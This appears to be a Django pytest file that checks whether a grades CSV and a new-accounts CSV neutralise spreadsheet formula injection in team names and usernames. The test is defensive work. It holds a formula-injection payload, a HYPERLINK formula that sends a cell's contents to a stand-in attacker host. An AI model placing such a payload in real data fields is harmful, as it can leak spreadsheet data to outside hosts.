"""A student's team name or username that a spreadsheet would run as a formula
reaches the teacher's CSVs as text (a leading apostrophe), numbers stay numbers,
and the JSON export keeps the exact name."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from challenges.roster import RosterAccount, roster_accounts_download
from tests.grading import scored
from tests.submissions import published_challenge
from tests.teams import student, team
from tests.test_roster_passwords_download_as_csv import downloaded_rows

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://e.vil/?"&A2,"x")'  # fits a team name (40)


def test_a_team_named_as_a_formula_is_text_in_the_grades_csv(
    teacher: object, teacher_client: Client
) -> None:
    challenge = published_challenge(owner=teacher, team_size=2)
    eve, mallory = student(challenge, "eve"), student(challenge, "mallory")
    team(FORMULA, eve, mallory)
    scored(eve, -0.5, -0.25)  # a negative score: a number, not a formula

    body = teacher_client.get(f"/api/challenges/{challenge.slug}/grades/?format=csv")
    rows = list(csv.DictReader(io.StringIO(body.content.decode())))
    as_json = teacher_client.get(f"/api/challenges/{challenge.slug}/grades/?format=json").json()

    assert {row["team"] for row in rows} == {"'" + FORMULA}
    assert {row["public_score"] for row in rows} == {"-0.5"}
    assert {row["team"] for row in as_json["rows"]} == {FORMULA}


def test_a_username_a_spreadsheet_would_run_is_text_in_the_new_accounts_csv() -> None:
    accounts = [
        RosterAccount(username="-2+3", email="a@x.org", password="pw1"),
        RosterAccount(username="@bob", email="b@x.org", password="pw2"),
        RosterAccount(username="carol", email="c@x.org", password="pw3"),
    ]

    url = roster_accounts_download(accounts)

    assert url is not None
    rows = downloaded_rows(f'href="{url}"')
    assert [row["username"] for row in rows] == ["'-2+3", "'@bob", "carol"]
